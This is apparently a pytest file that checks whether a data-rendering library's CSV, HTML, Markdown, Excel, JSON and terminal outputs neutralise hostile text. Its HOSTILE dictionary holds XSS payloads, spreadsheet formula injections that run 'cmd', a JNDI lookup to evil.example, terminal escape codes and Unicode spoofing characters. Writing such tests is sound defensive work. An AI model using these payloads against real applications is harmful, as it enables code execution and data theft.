"""Text that wants to be more than text: in every output it is harmless, and can still be read."""

import csv
import io
import json
import re
from collections.abc import Callable, Iterable
from html.parser import HTMLParser
from itertools import product
from typing import Final

import pytest
from building import EXCHANGE, published, raw, sheets, spec
from markdown_it import MarkdownIt

from harmonize.audience import Published
from harmonize.notebook import PARTS, Comparison
from harmonize.render import FINDINGS, PRACTICE, RENDERERS, Wanted, findings
from harmonize.render.text import FORMULA, visible
from harmonize.sets import MeasureSet
from harmonize.views import VIEWS

HOSTILE: Final = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "end of everything": "</td></table></title></style></script><svg onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "comment": "<!-- --> <![CDATA[ ]]> <?php ?>",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;",
    "link": "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "address": "https://evil.example www.evil.example <http://evil.example> a@evil.example",
    "reference": "[a]: http://evil.example",
    "heading": "# big **bold** _em_ `code` ~~gone~~ | cell | $x$",
    "list": "- [ ] 1. item",
    "rule": "--- ``` ***",
    "rich": "[bold red]x[/bold red] [link=http://evil.example]y[/link] [/] :smile:",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+1 \uff0b \uff0d \uff20",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "blank formula": "  =1+1",
    "control": "\x1b[31mred\x1b[0m\x07\x08\x7f\x85\x9b2J",
    "lines": "one\ntwo\r\nthree\u2028four",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "hidden": "a\u200bb\u00adc\ufeffd\U000e0041\u2060",
    "no characters": "a\ufffeb\uffffc",
    "excel escape": "_x000D__x0007_x000A_",
    "template": "{{7*7}} ${jndi:ldap://evil.example} %s %n {0}",
    "long": " ".join(f"very{i}" for i in range(2_500)),  # 21,000 characters
}
INVISIBLE: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufffe"
    "\uffff\U000e0000-\U000e007f]"
)
SGR: Final = re.compile(r"\x1b\[[0-9;]*m")


def _sets(texts: Iterable[str]) -> tuple[MeasureSet, ...]:
    """Every text wherever a spec may speak; two lists ask for the same and differ in it."""
    own = [*texts]
    lists = []
    for payer, ages, role in (("alpha", "18-85", None), ("bravo", "18+", None),
                              ("ref", "20+", "reference")):  # fmt: skip
        lines = [
            {"id": f"{text[:200]} {i}" if text.isprintable() else f"{i}", "ages": ages,
             "title": f"{text} Xylograph{i}", "steward": f"{text}{payer}",
             "numerator": f"{text} {payer}", "sex": f"{text}{payer}", "acronym": text[:40],
             "ids": {"x-own": f"{text[:200]}{i}"}, "modified": text, "target": text,
             "denominator_exclusions": [text, payer]}
            for i, text in enumerate(own)
        ]  # fmt: skip
        mine = own[0]
        about = {"name": f"{mine} {payer}", "short": mine[:60], "notes": mine, "region": mine}
        lists.append(spec(payer, *lines, **about, **({"role": role} if role else {})))
    return tuple(lists)


@pytest.fixture(scope="module")
def hostile() -> Published:
    return published(*_sets(HOSTILE.values()))


@pytest.fixture(scope="module")
def tame() -> Published:
    return published(*_sets(["harmless"] * len(HOSTILE)))


# --- one real reader for each format ------------------------------------------------------------
# Each gives all that a person sees, and asserts that nothing else came through.

Read = Callable[[str | bytes, str | bytes], list[str]]


def _as_csv(made: str | bytes, _: str | bytes) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(str(made))) for cell in row]
    runs = [c for c in cells if c.lstrip().startswith(FORMULA)]
    assert [c for c in runs if not re.fullmatch(r"[+-]?[0-9.]+%?", c)] == []
    return [c.removeprefix("'") for c in cells]


def _as_sssom(made: str | bytes, _: str | bytes) -> list[str]:
    table = str(made)[str(made).index("subject_id\t") :]
    cells = [cell for row in csv.reader(io.StringIO(table), delimiter="\t") for cell in row]
    assert [c for c in cells if c.lstrip().startswith(FORMULA)] == []
    return [c.removeprefix("'") for c in cells]


def _as_json(made: str | bytes, _: str | bytes) -> list[str]:
    texts: list[str] = []

    def walk(value: object) -> None:
        if isinstance(value, dict):
            for key, one in value.items():
                walk(key)
                walk(one)
        elif isinstance(value, list):
            for one in value:
                walk(one)
        elif isinstance(value, str):
            assert "\n" not in value
            assert "\t" not in value
            texts.append(value)

    walk(json.loads(made))
    return texts


def _as_table(made: str | bytes, _: str | bytes) -> list[str]:
    text = SGR.sub("", str(made))
    assert "\x1b" not in text
    assert "\t" not in text
    return [text, " ".join(text.split())]


def _as_markdown(made: str | bytes, _: str | bytes) -> list[str]:
    assert "://" not in str(made)
    assert not re.search(r"www\.|@", str(made))
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    texts: list[str] = []
    for token in reader.parse(str(made)):
        assert token.type not in {"html_block", "fence", "code_block", "hr", "blockquote_open",
                                  "ordered_list_open"}  # fmt: skip
        kinds = {child.type for child in token.children or ()}
        assert kinds <= {"text", "text_special", "strong_open", "strong_close", "softbreak"}
        if token.type == "inline":
            texts.append("".join(child.content for child in token.children or ()))
    return texts


# Attributes whose value a browser goes to, loads or runs.
LEADING = {"action", "background", "data", "formaction", "href", "ping", "poster", "src", "srcset",
           "xlink:href"}  # fmt: skip


class _Html(HTMLParser):
    """Elements with the names of their attributes, and text."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[tuple[str, ...]] = set()
        self.texts: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, *sorted(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in LEADING]

    def handle_comment(self, data: str) -> None:
        self.found.add(("comment", data))

    def handle_pi(self, data: str) -> None:
        self.found.add(("instruction", data))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def _html(made: str | bytes) -> _Html:
    reader = _Html()
    reader.feed(raw(made))
    reader.close()
    return reader


def _as_html(made: str | bytes, tame: str | bytes) -> list[str]:
    """No element and no attribute that harmless specs have not, too; no link out of the page."""
    found = _html(made)
    assert found.found - _html(tame).found == set()
    assert [link for link in found.links if not link.startswith("#")] == []
    return found.texts


def _as_workbook(made: str | bytes, _: str | bytes) -> list[str]:
    book = sheets(made)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n")
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert cell.quotePrefix or not cell.value.lstrip().startswith(FORMULA)
                    texts.append(cell.value.replace("_x005F_", "_"))
    package = raw(made)
    assert "<f>" not in package
    assert "<f " not in package
    assert 'TargetMode="External"' not in package
    assert not re.search(r"(?<!_x005F)_x(?!005F)[0-9A-Fa-f]{4}_", package)
    return texts


READERS: Final[dict[str, Read]] = {
    "table": _as_table,
    "csv": _as_csv,
    "json": _as_json,
    "markdown": _as_markdown,
    "html": _as_html,
    "xlsx": _as_workbook,
    "sssom": _as_sssom,
}


def _as_text(made: str | bytes, _: str | bytes) -> list[str]:
    return [raw(made)]


def _shows(texts: list[str], names: Iterable[str]) -> None:
    """Every text stands there to be read, as far as a page shows it, blanks aside."""
    seen = " ".join(" ".join(texts).split())
    for name in names:
        text = HOSTILE[name]
        wanted = (visible(text), visible(" ".join(text.split())))
        assert any(" ".join(one.split())[:60] in seen for one in wanted), name


# A format that shows a view at a time is drawn of each; the others hold them all.
DRAWN: Final = [
    (form, view)
    for form, view in product(RENDERERS, (None, *VIEWS))
    if view is None or form in ("table", "csv", "markdown")
]


@pytest.mark.parametrize(("form", "view"), DRAWN)
def test_every_format_is_harmless_and_readable(
    hostile: Published, tame: Published, form: str, view: str | None
) -> None:
    titled = ("overlap", None) if form == "csv" else ("overlap",)
    both = form != "table" and view in ("overlap", "divergence")
    for layout in ("wide", "long") if both else ("wide",):
        cell = "title" if view in titled else None
        wanted = Wanted(view=view, layout=layout, cell=cell, exchange=EXCHANGE)
        made = RENDERERS[form](hostile, wanted)
        plain = RENDERERS[form](tame, wanted) if form == "html" else ""
        texts = READERS.get(form, _as_text)(made, plain)
        unseparated = raw(made).replace("\t", " ") if form == "sssom" else raw(made)
        assert not INVISIBLE.search(unseparated)
        assert not any(INVISIBLE.search(text) for text in texts)
        if view in (None, "overlap", "pairs"):
            _shows(texts, HOSTILE)


@pytest.mark.parametrize("color", [False, True])
@pytest.mark.parametrize("width", [None, 80])
def test_a_terminal_is_sent_no_command(hostile: Published, width: int | None, color: bool) -> None:
    for form, draw in {"page": RENDERERS["table"], "sheet": PRACTICE["table"]}.items():
        made = str(draw(hostile, Wanted(width=width, color=color)))
        assert color or "\x1b" not in made
        assert "\x1b" not in SGR.sub("", made), form
        assert "\x1b]8" not in made
        assert not INVISIBLE.search(SGR.sub("", made))


@pytest.mark.parametrize("form", PRACTICE)
def test_the_sheet_for_a_practice_is_harmless_and_readable(
    hostile: Published, tame: Published, form: str
) -> None:
    made, plain = (PRACTICE[form](one, Wanted()) for one in (hostile, tame))
    texts = READERS[form](made, plain)
    assert not INVISIBLE.search(raw(made))
    _shows(texts, HOSTILE)


def test_a_notebook_is_harmless_and_readable(hostile: Published, tame: Published) -> None:
    shown = Comparison(hostile)
    made = shown._repr_html_()
    _shows(_as_html(made, Comparison(tame)._repr_html_()), HOSTILE)
    assert not INVISIBLE.search(made + repr(shown))
    for name in PARTS:
        frame = shown.part(name)
        texts = [text for head in frame for text in frame[head].dropna().astype(str)]
        assert not any(INVISIBLE.search(text) or "\n" in text for text in texts)
    _shows(shown.overlap["title"].tolist(), HOSTILE)


def test_problems_are_harmless_too() -> None:
    from harmonize.problems import Place, Problem

    problems = tuple(
        Problem(Place(f"{text}.yaml", 1, 1), "HZ201", f"unknown key {text!r}")
        for text in HOSTILE.values()
    )
    for form in FINDINGS:
        made = findings(problems, form)
        assert not INVISIBLE.search(made)
    assert len(findings(problems, "lines").splitlines()) == len(problems)
